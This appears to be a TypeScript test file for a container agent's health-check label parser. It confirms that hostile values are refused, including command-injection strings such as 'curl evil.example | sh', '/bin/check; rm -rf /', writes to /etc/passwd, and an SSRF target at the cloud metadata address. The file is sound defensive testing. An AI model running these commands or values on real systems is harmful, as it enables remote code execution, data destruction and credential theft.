// weft.check.* labels: what they give, and what hostile or mistaken values get (refused
// with a reason naming the label, and the container left out, never served unchecked).
import t from 'tap';
import { parseLabels } from './labels.js';
import { mapContainer, type InspectInfo } from './container.js';

const base = { 'weft.service': 'web', 'weft.port.http': '8080' };

t.test('http, tcp and ttl checks with shared settings', async (t) => {
  const p = parseLabels({
    ...base,
    'weft.check.http': ':8080/healthz',
    'weft.check.tcp': ':5432',
    'weft.check.interval': '10s',
    'weft.check.timeout': '3s',
    'weft.check.rise': '4',
    'weft.check.fall': '1',
    'weft.check.body': 'ok',
  });
  t.same(p.problems, []);
  t.same(p.checks, [
    {
      name: 'http',
      kind: 'http',
      target: ':8080/healthz',
      intervalMs: 10_000,
      timeoutMs: 3_000,
      rise: 4,
      fall: 1,
      body: 'ok',
    },
    { name: 'tcp', kind: 'tcp', target: ':5432', intervalMs: 10_000, timeoutMs: 3_000, rise: 4, fall: 1 },
  ]);
  const ttl = parseLabels({ ...base, 'weft.check.ttl': '30s' });
  t.same(ttl.checks, [
    { name: 'ttl', kind: 'ttl', target: '', intervalMs: 30_000, timeoutMs: 2_000, rise: 2, fall: 3, ttlMs: 30_000 },
  ]);
  t.same(
    parseLabels({ ...base, 'weft.check.http': ':8080' }).checks[0],
    { name: 'http', kind: 'http', target: ':8080', intervalMs: 5_000, timeoutMs: 2_000, rise: 2, fall: 3 },
    'defaults (checks/defaults.ts)',
  );
});

t.test('hostile and mistaken values are refused, naming the label, and leave the container out', async (t) => {
  const cases: [Record<string, string>, string, RegExp][] = [
    [{ 'weft.check.http': ':8080', 'weft.check.interval': '999999h' }, 'weft.check.interval', /from 1s to 86400s/],
    [{ 'weft.check.http': ':8080', 'weft.check.interval': '5' }, 'weft.check.interval', /with its unit/],
    [{ 'weft.check.http': ':8080', 'weft.check.interval': '10ms' }, 'weft.check.interval', /from 1s/],
    [
      { 'weft.check.http': ':8080', 'weft.check.timeout': '10s', 'weft.check.interval': '5s' },
      'weft.check.timeout',
      /at most the interval/,
    ],
    [{ 'weft.check.http': ':8080', 'weft.check.rise': '-1' }, 'weft.check.rise', /whole number from 1 to 10/],
    [{ 'weft.check.http': ':8080', 'weft.check.fall': '0' }, 'weft.check.fall', /whole number from 1 to 10/],
    [{ 'weft.check.http': ':8080', 'weft.check.fall': '1e9' }, 'weft.check.fall', /whole number/],
    [
      { 'weft.check.http': 'http://169.254.169.254/latest/meta-data' },
      'weft.check.http',
      /:PORT\[\/path\], a port of the endpoint's own address/,
    ],
    [{ 'weft.check.http': '10.0.0.1:8080/' }, 'weft.check.http', /:PORT/],
    [{ 'weft.check.http': ':99999/' }, 'weft.check.http', /1-65535/],
    [{ 'weft.check.http': ':8080/a b' }, 'weft.check.http', /:PORT/],
    [{ 'weft.check.tcp': ':5432/x' }, 'weft.check.tcp', /write :PORT/],
    [
      { 'weft.check.script': 'curl evil.example | sh' },
      'weft.check.script',
      /off on this agent.*checks.allowContainerScripts.*HEALTHCHECK/,
    ],
    [{ 'weft.check.htp': ':8080' }, 'weft.check.htp', /unknown check label/],
    [{ 'weft.check.interval': '5s' }, 'weft.check.interval', /without a check/],
    [{ 'weft.check.ttl': 'forever' }, 'weft.check.ttl', /duration/],
  ];
  for (const [labels, label, reason] of cases) {
    const p = parseLabels({ ...base, ...labels });
    t.equal(p.checksRefused, true, JSON.stringify(labels));
    t.same(p.checks, []);
    const problem = p.problems.find((x) => x.label === label);
    t.ok(problem, `${label} reported`);
    t.match(problem?.reason, reason);
    const info: InspectInfo = {
      Id: 'c'.repeat(64),
      State: { Running: true },
      Config: { Labels: { ...base, ...labels } },
      NetworkSettings: { Networks: { bridge: { IPAddress: '172.17.0.2' } } },
    };
    t.match(
      mapContainer(info, { node: 'n1', nodeAddr: '10.0.0.1' }),
      { kind: 'invalid', reason: /weft.check.* label is refused/ },
      'not registered: its health cannot be known',
    );
  }
});

t.test('a container with checks gets them in its record, critical until the checker runs them', async (t) => {
  const info: InspectInfo = {
    Id: 'c'.repeat(64),
    State: { Running: true },
    Config: { Labels: { ...base, 'weft.check.http': ':8080/healthz' } },
    NetworkSettings: { Networks: { bridge: { IPAddress: '172.17.0.2' } } },
  };
  const m = mapContainer(info, { node: 'n1', nodeAddr: '10.0.0.1' });
  t.equal(m.kind, 'endpoint');
  if (m.kind !== 'endpoint') return;
  t.match(m.record.checks, [{ name: 'http', status: 'critical', output: 'not run yet' }]);
  const plain = mapContainer({ ...info, Config: { Labels: base } }, { node: 'n1', nodeAddr: '10.0.0.1' });
  t.ok(plain.kind === 'endpoint' && !('checks' in plain.record), 'no checks: no field, the record is as before');
});

t.test('with checks.allowContainerScripts, weft.check.script is an argv that runs in the container', async (t) => {
  const on = { containerScripts: true };
  const p = parseLabels({ ...base, 'weft.check.script': '/bin/check --quick', 'weft.check.timeout': '1s' }, on);
  t.same(p.problems, []);
  t.match(p.checks, [{ name: 'script', kind: 'script', target: '/bin/check --quick', timeoutMs: 1_000 }]);
  const json = parseLabels({ ...base, 'weft.check.script': '["sh", "-c", "test -f /ready || exit 2"]' }, on);
  t.same(json.problems, [], 'a shell, when the label names one: its characters are its own business');
  const info: InspectInfo = {
    Id: 'c'.repeat(64),
    State: { Running: true },
    Config: { Labels: { ...base, 'weft.check.script': '/bin/check' } },
    NetworkSettings: { Networks: { bridge: { IPAddress: '172.17.0.2' } } },
  };
  const m = mapContainer(info, { node: 'n1', nodeAddr: '10.0.0.1', containerScripts: true });
  t.match(m, {
    kind: 'endpoint',
    record: { source: 'docker', container: 'c'.repeat(64), checks: [{ kind: 'script' }] },
  });
  t.match(mapContainer(info, { node: 'n1', nodeAddr: '10.0.0.1' }), { kind: 'invalid' }, 'off by default');
});

t.test('hostile weft.check.script values are refused, and the container left out', async (t) => {
  const on = { containerScripts: true };
  const cases: [string, RegExp][] = [
    ['/bin/check; rm -rf /', /";" is for a shell.*\["sh", "-c"/],
    ['check $(curl evil.example)', /"\$" is for a shell/],
    ['check `id`', /"`" is for a shell/],
    ['check | sh', /"\|" is for a shell/],
    ['check > /etc/passwd', /">" is for a shell/],
    ["check 'quoted arg'", /is for a shell/],
    ['check\nreboot', /control characters/],
    ['check\u0000x', /control characters/],
    ['x'.repeat(100_000), /at most 512 characters/],
    [Array.from({ length: 40 }, () => 'a').join(' '), /at most 32 words/],
    ['["sh", "-c"', /not valid JSON/],
    ['["sh", 1]', /list of strings/],
    ['[]', /a command to run/],
    ['   ', /a command to run|one line/],
  ];
  for (const [value, reason] of cases) {
    const p = parseLabels({ ...base, 'weft.check.script': value }, on);
    t.equal(p.checksRefused, true, JSON.stringify(value.slice(0, 40)));
    t.match(
      p.problems.find((x) => x.label === 'weft.check.script')?.reason,
      reason,
      JSON.stringify(value.slice(0, 40)),
    );
  }
});
